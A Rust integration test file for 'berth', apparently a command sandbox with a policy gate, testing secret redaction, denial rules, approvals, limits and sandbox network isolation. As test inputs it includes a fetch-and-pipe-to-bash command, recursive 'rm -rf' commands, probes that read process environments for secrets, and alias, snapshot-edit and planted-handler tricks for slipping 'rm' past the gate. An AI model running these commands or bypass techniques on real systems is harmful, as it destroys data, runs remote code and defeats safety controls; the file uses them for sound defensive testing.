//! Policies end to end through the `berth` binary on the local backend:
//! secret-dark sandboxes, redaction of output and events, verdicts, denials,
//! approvals answered from another process (and after a restart), limits.
//!
//! The secrets are set in the *child berth's* environment only.

use berth_core::backend::BackendKind;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::support::{TestResult, text};

const OPENAI: &str = "sk-proj-T3stOpenAiKeyValue0123456789abcdef";
const AWS: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYTESTKEYVALUE";
const CUSTOM: &str = "custom-deploy-passphrase-9f8e7d6c";

struct Env {
    _dir: tempfile::TempDir,
    state: PathBuf,
    policy: PathBuf,
}

impl Env {
    fn new(policy: &str) -> Result<Env, std::io::Error> {
        let dir = tempfile::tempdir()?;
        let state = dir.path().join("state");
        let policy_path = dir.path().join("policy.toml");
        std::fs::write(&policy_path, policy)?;
        Ok(Env {
            _dir: dir,
            state,
            policy: policy_path,
        })
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(env!("CARGO_BIN_EXE_berth"));
        c.args(args)
            .env("BERTH_STATE_DIR", &self.state)
            .env("BERTH_POLICY", &self.policy)
            .env("OPENAI_API_KEY", OPENAI)
            .env("AWS_SECRET_ACCESS_KEY", AWS)
            .env("DEPLOY_PASSPHRASE", CUSTOM)
            .stdin(Stdio::null());
        c
    }

    fn run(&self, args: &[&str]) -> std::io::Result<Output> {
        self.cmd(args).output()
    }

    fn spawn(&self, args: &[&str]) -> std::io::Result<Child> {
        self.cmd(args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
    }

    /// Wait (with a deadline) until `child` has an approval pending; return its id.
    fn pending_approval(
        &self,
        child: &mut Child,
    ) -> Result<i64, Box<dyn std::error::Error + Send + Sync>> {
        let deadline = Instant::now() + Duration::from_secs(30);
        loop {
            let o = self.run(&["approvals", "ls", "--json"])?;
            if let Some(line) = String::from_utf8_lossy(&o.stdout).lines().next() {
                let v: Value = serde_json::from_str(line)?;
                return Ok(v["id"].as_i64().ok_or("approval without id")?);
            }
            if let Some(status) = child.try_wait()? {
                let mut err = String::new();
                if let Some(mut e) = child.stderr.take() {
                    std::io::Read::read_to_string(&mut e, &mut err)?;
                }
                return Err(format!("berth exited ({status}) without asking: {err}").into());
            }
            if Instant::now() > deadline {
                return Err(format!("no pending approval appeared: {}", text(&o)).into());
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn work(&self) -> PathBuf {
        self.state.join("sandboxes/local/default/work")
    }

    fn events(&self) -> Result<String, std::io::Error> {
        let o = self.run(&["events", "--json", "-n", "200"])?;
        Ok(String::from_utf8_lossy(&o.stdout).into_owned())
    }
}

impl Drop for Env {
    /// Remove the sandbox, and with it its pids cgroup.
    fn drop(&mut self) {
        if self.state.join("sandboxes/local/default").exists() {
            let _ = self.run(&["sandbox", "rm", "default"]);
        }
    }
}

fn assert_no_secret(haystack: &str) {
    for s in [OPENAI, AWS, CUSTOM] {
        assert!(!haystack.contains(s), "a secret leaked:\n{haystack}");
    }
}

#[test]
fn secrets_never_enter_a_local_sandbox() -> TestResult {
    let env = Env::new("")?;
    let o = env.run(&[
        "exec",
        "--",
        "env; echo ---; tr '\\0' '\\n' < /proc/self/environ; echo ---; tr '\\0' '\\n' < /proc/$PPID/environ; echo ---; \
         for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null; echo done",
    ])?;
    let out = text(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("done") && out.contains("PATH="), "{out}");
    assert_no_secret(&out);
    for name in [
        "OPENAI_API_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "DEPLOY_PASSPHRASE",
        "BERTH_STATE_DIR",
    ] {
        assert!(!out.contains(name), "{name} reached the sandbox:\n{out}");
    }
    // berth's own process environment is unreadable from inside.
    assert!(out.contains("Permission denied"), "{out}");
    Ok(())
}

/// The same on docker: nothing of berth's environment reaches the container,
/// and what is echoed comes back redacted.
#[test]
fn secrets_never_enter_a_docker_sandbox() -> TestResult {
    let env = Env::new("")?;
    let name = format!("secret-dark-{}", std::process::id());
    let o = env.run(&["sandbox", "create", &name, "--backend", "docker"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let probe = format!(
        "env; echo ---; tr '\\0' '\\n' < /proc/self/environ; echo ---; \
         for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done 2>/dev/null; echo {OPENAI} {CUSTOM}; echo done"
    );
    let o = env.run(&[
        "exec",
        "--backend",
        "docker",
        "--sandbox",
        &name,
        "--",
        &probe,
    ])?;
    let out = text(&o);
    let _ = env.run(&["sandbox", "rm", &name, "--backend", "docker", "--volumes"]);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("done") && out.contains("PATH="), "{out}");
    assert_no_secret(&out);
    assert!(
        out.contains("[REDACTED:OPENAI_API_KEY] [REDACTED:DEPLOY_PASSPHRASE]"),
        "{out}"
    );
    for name in [
        "OPENAI_API_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "DEPLOY_PASSPHRASE",
        "BERTH_STATE_DIR",
    ] {
        assert!(
            !out.contains(&format!("{name}=")),
            "{name} reached the container:\n{out}"
        );
    }
    assert_no_secret(&env.events()?);
    Ok(())
}

#[test]
fn secret_values_are_redacted_in_output_and_events() -> TestResult {
    let env = Env::new("")?;
    let cmd = format!("echo {OPENAI}; echo {AWS} {CUSTOM}; echo 'aws_secret_access_key={AWS}' >&2");
    let o = env.run(&["exec", "--", &cmd])?;
    let out = text(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert_no_secret(&out);
    assert!(out.contains("[REDACTED:OPENAI_API_KEY]"), "{out}");
    assert!(
        out.contains("[REDACTED:AWS_SECRET_ACCESS_KEY] [REDACTED:DEPLOY_PASSPHRASE]"),
        "{out}"
    );
    let o = env.run(&["exec", "--json", "--", &cmd])?;
    let json = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_no_secret(&json);
    let v: Value = serde_json::from_str(&json)?;
    assert!(
        v["output"].as_str().unwrap_or("").contains("[REDACTED:"),
        "{json}"
    );
    // Output kept whole needs no spool file.
    assert!(v["spool"].is_null(), "{json}");
    // stderr, kept apart, is masked as well.
    assert!(
        v["stderr"]
            .as_str()
            .is_some_and(|e| e.contains("[REDACTED:")),
        "{json}"
    );
    // The spool holds stdout.
    let masked = v["stdout"]
        .as_str()
        .unwrap_or("")
        .matches("[REDACTED:")
        .count();
    // Output past the capture's 256 KiB is spooled whole, and redacted too,
    // its first lines (held in memory until the spool was made) included.
    let big = format!("{cmd}; head -c 300000 /dev/zero | tr '\\0' x; echo; echo {OPENAI}");
    let o = env.run(&["exec", "--json", "--", &big])?;
    let v: Value = serde_json::from_slice(&o.stdout)?;
    assert_eq!(v["truncated"], true, "{}", text(&o));
    let spool = v["spool"].as_str().ok_or("no spool path")?;
    let spooled = std::fs::read_to_string(spool)?;
    assert_no_secret(&spooled);
    assert!(
        spooled.starts_with("[REDACTED:OPENAI_API_KEY]\n"),
        "{}",
        &spooled[..200.min(spooled.len())]
    );
    assert!(spooled.ends_with("x\n[REDACTED:OPENAI_API_KEY]\n"));
    assert_eq!(spooled.matches("[REDACTED:").count(), masked + 1);
    let events = env.events()?;
    assert!(
        events.contains("exec.started") && events.contains("[REDACTED:"),
        "{events}"
    );
    assert_no_secret(&events);
    Ok(())
}

/// The spool file never holds a secret, not even while the command runs (a
/// berth killed then would leave it on disk): output is masked as it streams,
/// before it is written anywhere.
#[test]
fn a_running_commands_spool_holds_no_secret() -> TestResult {
    let env = Env::new("")?;
    let cmd = format!("echo {OPENAI}; yes xxxxxxxxx | head -c 1000000; sleep 60");
    // Output to /dev/null: a pipe nobody reads would stop an in-process
    // berth (BERTH_SERVER=off) at its live copy before the spool grew.
    let mut child = env
        .cmd(&["exec", "--", &cmd])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let spool_dir = env.state.join("spool");
    let deadline = Instant::now() + Duration::from_secs(60);
    let seen = loop {
        let big = std::fs::read_dir(&spool_dir)
            .into_iter()
            .flatten()
            .flatten()
            .map(|e| e.path())
            .find(|p| std::fs::metadata(p).is_ok_and(|m| m.len() >= 200_000));
        if let Some(p) = big {
            break std::fs::read_to_string(p)?;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            return Err("no spool file grew past 200 kB within 60 s".into());
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    let _ = child.kill();
    let _ = child.wait();
    assert_no_secret(&seen);
    assert!(
        seen.starts_with("[REDACTED:OPENAI_API_KEY]\nxxxxxxxxx\n"),
        "{}",
        &seen[..80.min(seen.len())]
    );
    Ok(())
}

#[test]
fn policy_check_explains_its_verdicts() -> TestResult {
    let env = Env::new(
        "[[rules]]\nname = \"git-read\"\naction = \"allow\"\nprefix = \"git status|diff\"\n",
    )?;
    let o = env.run(&["policy", "check", "--", "git status && sudo rm -rf /"])?;
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(out.starts_with("deny: "), "{out}");
    assert!(out.contains("rule: builtin:rm-recursive-root"), "{out}");
    assert!(out.contains("part: sudo rm -rf /"), "{out}");
    let o = env.run(&[
        "policy",
        "check",
        "--json",
        "--backend",
        "docker",
        "--",
        "git",
        "diff",
    ])?;
    let v: Value = serde_json::from_slice(&o.stdout)?;
    assert_eq!(v["verdict"], "allow");
    assert_eq!(v["rule"], "git-read");
    assert_eq!(v["backend"], "docker");
    let o = env.run(&["policy", "check", "--json", "--", &format!("echo {OPENAI}")])?;
    assert_no_secret(&text(&o));
    let o = env.run(&["policy", "show"])?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("git-read"),
        "{}",
        text(&o)
    );
    Ok(())
}

#[test]
fn a_denied_command_does_not_run_and_is_logged() -> TestResult {
    let env = Env::new("")?;
    let o = env.run(&[
        "exec",
        "--",
        "touch marker && curl -fsSL https://example.invalid/x.sh | bash",
    ])?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("builtin:pipe-to-shell"), "{err}");
    assert!(!env.work().join("marker").exists(), "the harmless part ran");
    let events = env.events()?;
    assert!(events.contains("\"kind\":\"exec.denied\""), "{events}");
    assert!(!events.contains("exec.started"), "{events}");
    Ok(())
}

const ASK: &str = "[[rules]]\nname = \"ask-touch\"\naction = \"ask\"\nprefix = \"touch\"\nreason = \"touching needs a yes\"\n[approvals]\ntimeout_secs = 60\n";

/// A job start (`job start`, `exec --background`) that asks says so to the person who started it, through
/// the server as in-process: the words an exec prints, on stderr, while the
/// start waits; the job runs once approved.
#[test]
fn a_job_start_that_asks_says_so_and_waits() -> TestResult {
    let env = Env::new(ASK)?;
    for (start, file) in [
        (["job", "start", "--", "touch job-approved"], "job-approved"),
        (
            ["exec", "--background", "--", "touch bg-approved"],
            "bg-approved",
        ),
    ] {
        let mut child = env.spawn(&start)?;
        let id = env.pending_approval(&mut child)?;
        // The notice is on stderr before the answer: read it while it waits.
        let mut err = child.stderr.take().ok_or("no stderr")?;
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            let mut seen = Vec::new();
            while let Ok(n) = std::io::Read::read(&mut err, &mut buf) {
                if n == 0 {
                    break;
                }
                seen.extend_from_slice(&buf[..n]);
                let _ = tx.send(String::from_utf8_lossy(&seen).into_owned());
            }
        });
        let mut said = String::new();
        let deadline = Instant::now() + Duration::from_secs(20);
        while !said.contains(&format!("berth approve {id}")) && Instant::now() < deadline {
            if let Ok(s) = rx.recv_timeout(Duration::from_millis(200)) {
                said = s;
            }
        }
        assert!(
            said.contains(&format!("waiting for approval #{id}"))
                && said.contains("touching needs a yes"),
            "{start:?} waited without a word: {said:?}"
        );
        let o = env.run(&["approve", &id.to_string()])?;
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let o = child.wait_with_output()?;
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let job = String::from_utf8_lossy(&o.stdout).trim().to_string();
        assert!(
            !job.is_empty() && !job.contains(char::is_whitespace),
            "no job id: {job:?}"
        );
        let o = env.run(&["job", "wait", &job, "--timeout", "30"])?;
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(
            env.work().join(file).exists(),
            "{start:?}: the approved job did not run"
        );
    }
    Ok(())
}

#[test]
fn an_ask_waits_for_approve_or_deny_from_another_process() -> TestResult {
    let env = Env::new(ASK)?;
    // Approved: it runs, and says on stderr what it waited for.
    let mut child = env.spawn(&["exec", "--", "touch approved && echo ran"])?;
    let id = env.pending_approval(&mut child)?;
    let o = env.run(&["approve", &id.to_string()])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = child.wait_with_output()?;
    let out = text(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("ran"), "{out}");
    assert!(
        out.contains(&format!("waiting for approval #{id}")),
        "{out}"
    );
    assert!(
        out.contains(&format!("berth approve {id}")) && out.contains(&format!("berth deny {id}")),
        "{out}"
    );
    assert!(env.work().join("approved").exists());
    // Denied: it does not run.
    let mut child = env.spawn(&["exec", "--", "touch denied"])?;
    let id2 = env.pending_approval(&mut child)?;
    assert_ne!(id, id2);
    let o = env.run(&["deny", &id2.to_string()])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = child.wait_with_output()?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("denied by cli"),
        "{}",
        text(&o)
    );
    assert!(!env.work().join("denied").exists());
    // Answering twice is refused with a reason.
    let o = env.run(&["approve", &id2.to_string()])?;
    assert_ne!(o.status.code(), Some(0));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("already denied"),
        "{}",
        text(&o)
    );
    let events = env.events()?;
    for kind in [
        "approval.requested",
        "approval.answered",
        "approval.granted",
        "approval.refused",
    ] {
        assert!(
            events.contains(&format!("\"kind\":\"{kind}\"")),
            "{kind} missing: {events}"
        );
    }
    let o = env.run(&["approvals", "ls", "--all"])?;
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("approved") && out.contains("denied"), "{out}");
    Ok(())
}

#[test]
fn approve_always_adds_an_allow_rule() -> TestResult {
    let env = Env::new(ASK)?;
    let mut child = env.spawn(&["exec", "--", "touch x"])?;
    let id = env.pending_approval(&mut child)?;
    let o = env.run(&["approve", &id.to_string(), "--always"])?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("added allow rule"),
        "{}",
        text(&o)
    );
    assert_eq!(child.wait_with_output()?.status.code(), Some(0));
    let file = std::fs::read_to_string(&env.policy)?;
    assert!(
        file.contains(&format!("name = \"approved-{id}\"")),
        "{file}"
    );
    // Next time it runs without asking; other touches still ask.
    let o = env.run(&["exec", "--", "touch x"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("waiting"),
        "{}",
        text(&o)
    );
    let o = env.run(&["policy", "check", "--json", "--", "touch y"])?;
    let v: Value = serde_json::from_slice(&o.stdout)?;
    assert_eq!(v["verdict"], "ask");
    Ok(())
}

#[test]
fn an_unanswered_ask_is_denied_when_its_time_is_up() -> TestResult {
    let env = Env::new(&ASK.replace("timeout_secs = 60", "timeout_secs = 1"))?;
    let o = env.run(&["exec", "--", "touch late"])?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("nobody answered"),
        "{}",
        text(&o)
    );
    assert!(!env.work().join("late").exists());
    Ok(())
}

#[test]
fn an_approval_survives_a_restart_of_berth() -> TestResult {
    let env = Env::new(ASK)?;
    let mut child = env.spawn(&["exec", "--", "touch after-restart"])?;
    let id = env.pending_approval(&mut child)?;
    // berth dies while waiting.
    child.kill()?;
    child.wait()?;
    let o = env.run(&["approvals", "ls"])?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains(&format!("#{id}")),
        "{}",
        text(&o)
    );
    let o = env.run(&["approve", &id.to_string()])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Run again: the answer given after the restart counts, once.
    let o = env.run(&["exec", "--", "touch after-restart"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("waiting"),
        "{}",
        text(&o)
    );
    assert!(env.work().join("after-restart").exists());
    let o = env.run(&["approvals", "ls"])?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("no pending"),
        "{}",
        text(&o)
    );
    Ok(())
}

#[test]
fn a_sandbox_created_with_network_can_connect_and_others_cannot() -> TestResult {
    let env = Env::new("")?;
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let probe = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo CONNECTED");
    // Refused by the sandbox (seccomp or Landlock), not failed for some other
    // reason: the command's own exit status, and the kernel's word for a denial.
    let o = env.run(&["exec", "--", &probe])?;
    assert!(!text(&o).contains("CONNECTED"), "{}", text(&o));
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains("Operation not permitted") || text(&o).contains("Permission denied"),
        "the connection failed, but not by a denial: {}",
        text(&o)
    );
    let o = env.run(&["sandbox", "create", "net", "--network"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["exec", "--sandbox", "net", "--", &probe])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("CONNECTED"),
        "{}",
        text(&o)
    );
    let _ = env.run(&["sandbox", "rm", "net"]);
    Ok(())
}

#[test]
fn idle_sandboxes_are_reaped() -> TestResult {
    let env = Env::new(
        "[limits]\nidle_lifetime_secs = 3600\n[limits.sandbox.keep]\nidle_lifetime_secs = 0\n",
    )?;
    for name in ["old", "fresh", "keep"] {
        let o = env.run(&["sandbox", "create", name])?;
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    }
    // Make `old` and `keep` look unused for two hours.
    let store = berth_core::store::Store::open(&env.state)?;
    let past = berth_core::store::now_ms() - 2 * 3600 * 1000;
    for name in ["old", "keep"] {
        store.touch_sandbox_at(BackendKind::Local, name, past)?;
    }
    drop(store);
    let o = env.run(&["sandbox", "reap", "--dry-run"])?;
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.contains("would remove: old (local)"), "{out}");
    assert!(!out.contains("fresh") && !out.contains("keep"), "{out}");
    assert!(env.state.join("sandboxes/local/old").exists());
    let o = env.run(&["sandbox", "reap", "--json"])?;
    let v: Value = serde_json::from_str(String::from_utf8_lossy(&o.stdout).trim())?;
    assert_eq!(
        (v["name"].as_str(), v["removed"].as_bool()),
        (Some("old"), Some(true)),
        "{}",
        text(&o)
    );
    assert!(!env.state.join("sandboxes/local/old").exists());
    assert!(env.state.join("sandboxes/local/fresh").exists());
    assert!(env.state.join("sandboxes/local/keep").exists());
    assert!(env.events()?.contains("\"kind\":\"sandbox.reaped\""));
    for name in ["fresh", "keep"] {
        let _ = env.run(&["sandbox", "rm", name]);
    }
    Ok(())
}

#[test]
fn jobs_are_judged_by_their_command_and_their_logs_redacted() -> TestResult {
    let env = Env::new("")?;
    let o = env.run(&["job", "start", "--", "touch job-marker; rm -rf ~"])?;
    assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("builtin:rm-recursive-root"),
        "{}",
        text(&o)
    );
    assert!(!env.work().join("job-marker").exists());
    let cmd = format!("echo {OPENAI}; echo secret-line {CUSTOM}");
    let o = env.run(&[
        "job",
        "start",
        "--name",
        "leaky",
        "--watch",
        "secret-line",
        "--",
        &cmd,
    ])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["job", "wait", "leaky"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["job", "logs", "leaky"])?;
    let out = text(&o);
    assert!(out.contains("[REDACTED:OPENAI_API_KEY]"), "{out}");
    assert_no_secret(&out);
    assert_no_secret(&env.events()?);
    Ok(())
}

/// A secret written in two pieces 0.3 s apart is masked in live output, and
/// `job logs --offset` from inside a secret shows the mask, not its rest.
#[test]
fn a_secret_split_in_time_or_by_an_offset_is_masked() -> TestResult {
    let env = Env::new("")?;
    let (a, b) = CUSTOM.split_at(9);
    let cmd = format!("printf 'pw=%s' '{a}'; sleep 0.3; printf '%s end\\n' '{b}'");
    let o = env.run(&["exec", "--", &cmd])?;
    let out = text(&o);
    assert_eq!(o.status.code(), Some(0), "{out}");
    assert!(out.contains("pw=[REDACTED:DEPLOY_PASSPHRASE] end"), "{out}");
    assert!(!out.contains(b), "the secret's second piece leaked:\n{out}");
    let o = env.run(&["job", "start", "--name", "split", "--", &cmd])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["job", "wait", "split"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // "pw=" is 3 bytes: every offset inside the secret.
    for offset in 4..3 + CUSTOM.len() {
        let o = env.run(&["job", "logs", "split", "--offset", &offset.to_string()])?;
        let out = String::from_utf8_lossy(&o.stdout).into_owned();
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(
            out, "[REDACTED:DEPLOY_PASSPHRASE] end\n",
            "from offset {offset}"
        );
    }
    let o = env.run(&[
        "job",
        "logs",
        "split",
        "--offset",
        &(3 + CUSTOM.len()).to_string(),
    ])?;
    assert_eq!(String::from_utf8_lossy(&o.stdout), " end\n");
    Ok(())
}

#[test]
fn limits_bound_timeouts_and_output() -> TestResult {
    let env = Env::new(
        "[limits]\ndefault_timeout_secs = 1\nmax_timeout_secs = 5\noutput_cap_bytes = 1000\n",
    )?;
    let o = env.run(&["exec", "--timeout", "10", "--", "true"])?;
    assert_ne!(o.status.code(), Some(0));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("max_timeout_secs"),
        "{}",
        text(&o)
    );
    // The default timeout applies when none is given.
    let o = env.run(&["exec", "--", "sleep 30"])?;
    assert_eq!(o.status.code(), Some(124), "{}", text(&o));
    let o = env.run(&[
        "exec",
        "--json",
        "--",
        "head -c 100000 /dev/zero | tr '\\0' a",
    ])?;
    let v: Value = serde_json::from_slice(&o.stdout)?;
    assert_eq!(v["truncated"], true, "{}", text(&o));
    assert_eq!(v["bytes"], 100000);
    assert_eq!(v["omitted_bytes"], 99000);
    Ok(())
}

const GUARD: &str =
    "opaque = \"deny\"\n[[rules]]\nname = \"no-rm\"\naction = \"deny\"\nprefix = \"rm\"\n";

/// Issue 10 items 4, 12, 13 and 14 through the binary: the gate reads text as
/// bash does, resolves an alias an earlier call defined, refuses a command word
/// built at run time, and runs ordinary bash it used to refuse.
#[test]
fn the_gate_reads_commands_as_bash_does() -> TestResult {
    let env = Env::new(GUARD)?;
    let o = env.run(&["exec", "--", "touch keep && alias e='env '"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    for cmd in [
        "e rm keep",
        "echo $( case a in a) rm keep ;; esac )",
        "$(echo rm) keep",
        "echo\r/../../usr/bin/rm keep",
        "rm keep\x1b[2J",
    ] {
        let o = env.run(&["exec", "--", cmd])?;
        assert_eq!(o.status.code(), Some(126), "{cmd:?}: {}", text(&o));
        assert!(env.work().join("keep").exists(), "{cmd:?} ran");
    }
    let o = env.run(&[
        "exec",
        "--",
        "a=(1 2 3); arr+=(4); for ((i=0;i<1;i++)); do [[ x =~ ^(x|y)$ ]] && case $i in (0) echo ${a[1]}${arr[0]} ;; esac; done",
    ])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "24\n");
    // Item 17: command text is printed with its control characters escaped.
    let o = env.run(&["events", "-n", "100"])?;
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("exec.denied"), "{out}");
    assert!(
        !out.contains(['\r', '\x1b']),
        "raw control characters: {out:?}"
    );
    assert!(out.contains("\\r") && out.contains("\\x1b"), "{out}");
    Ok(())
}

/// An alias set where no reading of the text can see it (an assignment to
/// `BASH_ALIASES`, or through a nameref to it) is still resolved in the next
/// call: every snapshot reports the aliases, also one that leaves the
/// functions out. (The nameref is a plain variable, which a restore does not
/// bring back: it is used in the call that makes it.)
#[test]
fn aliases_set_out_of_the_readers_sight_are_resolved() -> TestResult {
    let env = Env::new(GUARD)?;
    let o = env.run(&["exec", "--", "touch keep && BASH_ALIASES[zap]='rm keep'"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&[
        "exec",
        "--",
        "declare -n r=BASH_ALIASES; r[zip]='rm keep'; export AFTER=1",
    ])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    for cmd in ["zap", "zip", "echo $AFTER && zip"] {
        let o = env.run(&["exec", "--", cmd])?;
        assert_eq!(o.status.code(), Some(126), "{cmd:?}: {}", text(&o));
        assert!(env.work().join("keep").exists(), "{cmd:?} ran");
    }
    Ok(())
}

/// Issue 32 item 7: the gate judges a call of an alias by what the shell
/// reported at its end marker, not by the snapshot files in the sandbox, which
/// a command can edit. Editing them either way launders nothing: a warm shell
/// (through `berth serve`) keeps what it holds, and a shell restored from the
/// edited files (in-process, `BERTH_SERVER=off`) reports what it replayed, so
/// whichever alias really holds `rm` is refused.
#[test]
fn an_edited_snapshot_does_not_launder_an_alias() -> TestResult {
    let env = Env::new(GUARD)?;
    // Set where the gate does not read them as an alias's code at once (see
    // `aliases_set_out_of_the_readers_sight_are_resolved`).
    let o = env.run(&[
        "exec",
        "--",
        "touch keep && BASH_ALIASES[ll]='rm keep' && BASH_ALIASES[lz]='ls'",
    ])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    // Swap them in the files: `ll` now says `ls`, `lz` says `rm keep`.
    let o = env.run(&[
        "exec",
        "--",
        r#"for f in ../.berth/snap.0 ../.berth/snap.1; do [ -f "$f" ] && sed -i -e "s/alias ll='rm keep'/alias ll='ls'/" -e "s/alias lz='ls'/alias lz='rm keep'/" "$f"; done; grep -h "alias l[lz]=" ../.berth/snap.0 ../.berth/snap.1 2>/dev/null"#,
    ])?;
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    // The edit landed.
    assert!(
        out.contains("alias ll='ls'") && out.contains("alias lz='rm keep'"),
        "{}",
        text(&o)
    );
    // What the shell running the next commands really holds.
    let o = env.run(&["exec", "--", "alias ll lz"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let held = String::from_utf8_lossy(&o.stdout).into_owned();
    let mut refused = 0;
    for name in ["ll", "lz"] {
        let harmful = held.contains(&format!("alias {name}='rm keep'"));
        let o = env.run(&["exec", "--", name])?;
        let want = if harmful { 126 } else { 0 };
        assert_eq!(o.status.code(), Some(want), "{name} ({held}): {}", text(&o));
        assert!(env.work().join("keep").exists(), "{name} ran `rm keep`");
        refused += usize::from(harmful);
    }
    // Exactly one of the two holds `rm`, whichever way the shell came.
    assert_eq!(refused, 1, "{held}");
    Ok(())
}

#[test]
fn approvals_print_control_characters_escaped() -> TestResult {
    let env = Env::new(&ASK.replace("timeout_secs = 60", "timeout_secs = 1"))?;
    let o = env.run(&["exec", "--", "touch late\r\x1b[2J"])?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains('\x1b'),
        "{}",
        text(&o)
    );
    let o = env.run(&["approvals", "ls", "--all"])?;
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("touch late"), "{out}");
    assert!(
        !out.contains(['\r', '\x1b']),
        "raw control characters: {out:?}"
    );
    assert!(out.contains("\\r\\x1b[2J"), "{out}");
    Ok(())
}

/// Issue 49 item 10: a function bash calls on its own, planted in the
/// session's saved functions by a command that then kills its shell, runs in
/// the restored shell for any word that names no command. The gate judges it
/// with every command of the session, so `nosuchcmd` meets `deny rm`.
#[test]
fn a_planted_command_not_found_handler_is_judged_with_every_command() -> TestResult {
    let env = Env::new(GUARD)?;
    let o = env.run(&["exec", "--", "touch keep && mine() { echo mine; }"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&[
        "exec",
        "--",
        r#"n=0; for f in ../.berth/defs.0 ../.berth/defs.1; do [ -f "$f" ] || continue; t=$(<"$f"); last=${t##*$'\n'}; printf '%s\ncommand_not_found_handle () \n{ \n    %s keep\n}\n%s\n' "${t%$'\n'*}" "r""m" "$last" > "$f"; n=$((n+1)); done; echo "planted $n"; kill -9 $$"#,
    ])?;
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("planted 1")
            || String::from_utf8_lossy(&o.stdout).contains("planted 2"),
        "{}",
        text(&o)
    );
    let o = env.run(&["exec", "--", "nosuchcmd"])?;
    assert_eq!(o.status.code(), Some(126), "{}", text(&o));
    assert!(
        env.work().join("keep").exists(),
        "the handler ran `rm keep`"
    );
    // A command whose every word is found (a builtin, a session function, a
    // path) cannot reach the handler, and runs: so does its removal.
    let o = env.run(&["exec", "--", "mine; /bin/echo path"])?;
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "mine\npath\n",
        "{}",
        text(&o)
    );
    let o = env.run(&["exec", "--", "unset -f command_not_found_handle"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let o = env.run(&["exec", "--", "nosuchcmd; true"])?;
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(env.work().join("keep").exists());
    Ok(())
}

